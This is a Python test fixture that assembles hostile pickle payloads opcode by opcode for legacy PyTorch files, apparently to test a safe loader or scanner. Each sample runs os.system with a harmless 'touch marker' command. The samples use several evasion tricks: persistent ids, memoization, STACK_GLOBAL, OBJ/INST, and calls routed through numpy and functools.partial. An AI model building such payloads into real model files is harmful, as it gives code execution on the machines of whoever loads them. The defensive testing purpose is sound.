"""Hostile whole-model (``('module', <class>, <file>, <source>)``) persistent ids in legacy
torch files, built opcode by opcode; each payload would create ``marker`` under stock
``torch.load(weights_only=False)``, whose legacy ``persistent_load`` returns the id's second
item (for any length whose other items are falsy, and after comparing source texts)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests import pickleasm as A
from tests._load.hostile import legacy_with_pickle


def _touch(marker: Path) -> bytes:
    return A.ustr(f"touch {marker}")


def module_id_os_system(m: Path) -> bytes:
    """('module', os.system, '', '') -> os.system; REDUCE calls it."""
    pid = A.MARK + A.ustr("module") + A.glob("os", "system") + A.ustr("") + A.ustr("") + A.TUPLE
    return A.proto(2) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


def module_id_five_items(m: Path) -> bytes:
    """A malformed 5-item id whose extra items are falsy: torch still returns the class."""
    pid = (
        A.MARK + A.ustr("module") + A.glob("os", "system") + A.ustr("") + A.ustr("")
        + A.NONE + A.TUPLE
    )  # fmt: skip
    return A.proto(2) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


def module_id_two_items(m: Path) -> bytes:
    """('module', os.system): data[1:] is empty, so all() is true and torch calls its source
    check with one argument, which fails; still dangerous: the global is imported."""
    pid = A.ustr("module") + A.glob("os", "system") + A.TUPLE2
    return A.proto(2) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


def module_id_memoized(m: Path) -> bytes:
    """os.system memoized first, then fetched with BINGET into the id (bytes typename)."""
    return (
        A.proto(2) + A.glob("os", "system") + A.binput(0) + A.POP
        + A.MARK + A.binbytes(b"module") + A.binget(0) + A.NONE + A.NONE + A.TUPLE
        + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP
    )  # fmt: skip


def module_id_memoized_result(m: Path) -> bytes:
    """The id is memoized and the returned class fetched again later: each use is a call."""
    pid = A.MARK + A.ustr("module") + A.glob("os", "system") + A.NONE + A.NONE + A.TUPLE
    return (
        A.proto(2) + pid + A.BINPERSID + A.binput(1) + A.POP
        + A.binget(1) + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP
    )  # fmt: skip


def module_id_stack_global(m: Path) -> bytes:
    """The class comes from STACK_GLOBAL (protocol 4)."""
    pid = (
        A.MARK + A.ustr("module") + A.ustr("os") + A.ustr("system") + A.STACK_GLOBAL
        + A.NONE + A.NONE + A.TUPLE
    )  # fmt: skip
    return A.proto(4) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


SAMPLES: dict[str, Callable[[Path], bytes]] = {
    "module_id_os_system": module_id_os_system,
    "module_id_five_items": module_id_five_items,
    "module_id_memoized": module_id_memoized,
    "module_id_memoized_result": module_id_memoized_result,
    "module_id_stack_global": module_id_stack_global,
}
# imported (os.system) but torch.load fails before calling it
NOT_LIVE = {"module_id_two_items": module_id_two_items}


def write(name: str, path: Path, marker: Path) -> Path:
    build = SAMPLES.get(name) or NOT_LIVE[name]
    return legacy_with_pickle(path, build(marker))


# ------------------------------------------------------------------------------------------
# Calls dressed up as references (issue 11.8): each stores os.system as a value somewhere and
# calls it some other way. Run under stock pickle.load, each creates ``marker``.


def _sys() -> bytes:
    return A.glob("os", "system")


def ref_memo_then_call(m: Path) -> bytes:
    """Stored as a dict value, then fetched from the memo and called."""
    return (
        A.proto(2) + _sys() + A.binput(0) + A.POP
        + A.EMPTY_DICT + A.ustr("f") + A.binget(0) + A.SETITEM
        + A.binget(0) + _touch(m) + A.TUPLE1 + A.REDUCE + A.POP + A.STOP
    )  # fmt: skip


def ref_second_global(m: Path) -> bytes:
    """A value under one GLOBAL, a call under another GLOBAL of the same name."""
    return (
        A.proto(2) + A.EMPTY_DICT + A.ustr("f") + _sys() + A.SETITEM
        + _sys() + _touch(m) + A.TUPLE1 + A.REDUCE + A.POP + A.STOP
    )  # fmt: skip


def ref_stack_global_memoize(m: Path) -> bytes:
    """STACK_GLOBAL, MEMOIZE, stored in a list, then BINGET and REDUCE (protocol 4)."""
    return (
        A.proto(4) + A.ustr("os") + A.ustr("system") + A.STACK_GLOBAL + A.MEMOIZE
        + A.EMPTY_LIST + A.binget(0) + A.APPEND
        + A.binget(0) + _touch(m) + A.TUPLE1 + A.REDUCE + A.POP + A.STOP
    )  # fmt: skip


def ref_obj_opcode(m: Path) -> bytes:
    """OBJ calls the first item after MARK with the rest."""
    return A.proto(1) + A.MARK + _sys() + _touch(m) + A.OBJ + A.STOP


def ref_inst_opcode(m: Path) -> bytes:
    """INST names and calls the global in one opcode."""
    return A.MARK + A.string0(f"touch {m}") + A.inst("os", "system") + A.STOP


def ref_vetted_callee(m: Path) -> bytes:
    """Passed as an argument to numpy's generator constructor, which calls it."""
    return (
        A.proto(2) + A.glob("numpy.random._pickle", "__generator_ctor") + _touch(m) + _sys()
        + A.TUPLE2 + A.REDUCE + A.STOP
    )  # fmt: skip


def ref_partial_then_call(m: Path) -> bytes:
    """An argument of functools.partial, whose result is memoized and called."""
    return (
        A.proto(2) + A.glob("functools", "partial") + _sys() + _touch(m) + A.TUPLE2 + A.REDUCE
        + A.binput(1) + A.POP + A.binget(1) + A.EMPTY_TUPLE + A.REDUCE + A.STOP
    )  # fmt: skip


CALLS_AS_REFERENCES: dict[str, Callable[[Path], bytes]] = {
    "memo-then-call": ref_memo_then_call,
    "second-global": ref_second_global,
    "stack-global-memoize": ref_stack_global_memoize,
    "OBJ": ref_obj_opcode,
    "INST": ref_inst_opcode,
    "vetted-callee": ref_vetted_callee,
    "partial-then-call": ref_partial_then_call,
}
